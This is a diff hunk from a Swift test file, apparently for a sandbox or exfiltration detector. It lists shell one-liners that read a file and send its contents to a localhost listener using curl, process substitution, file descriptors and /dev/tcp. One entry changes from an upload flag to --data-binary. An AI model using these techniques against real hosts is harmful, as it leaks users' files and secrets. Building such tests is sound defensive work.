@@ -104,7 +104,7 @@ struct Way: Sendable, CustomTestStringConvertible {
         Way(name: "command-substitution", script: "curl -s -m 10 \"http://127.0.0.1:$P/?q=$(head -c 6 $F)\"", needs: ["curl"]),
         Way(name: "argument", script: "sh -c 'curl -s -m 10 -d \"$1\" http://127.0.0.1:$P/' sh \"$(cat $F)\"", needs: ["curl"]),
         Way(name: "variable", script: "export X=\"$(cat $F)\"; sh -c 'printf %s \"$X\" | \(send)'", needs: ["curl"]),
-        Way(name: "process-substitution", script: "curl -s -m 10 -T <(cat $F) http://127.0.0.1:$P/x", needs: ["curl"]),
+        Way(name: "process-substitution", script: "curl -s -m 10 --data-binary @<(cat $F) http://127.0.0.1:$P/", needs: ["curl"]),
         Way(name: "own-descriptor", script: "exec 3< $F; curl -s -m 10 --data-binary @/proc/self/fd/3 http://127.0.0.1:$P/", needs: ["curl"]),
         Way(name: "unlinked-file", script: "exec 3<> t; rm t; cat $F >&3; curl -s -m 10 --data-binary @/dev/fd/3 http://127.0.0.1:$P/", needs: ["curl"]),
         Way(name: "dev-tcp", script: "cat $F > /dev/tcp/127.0.0.1/$P"),
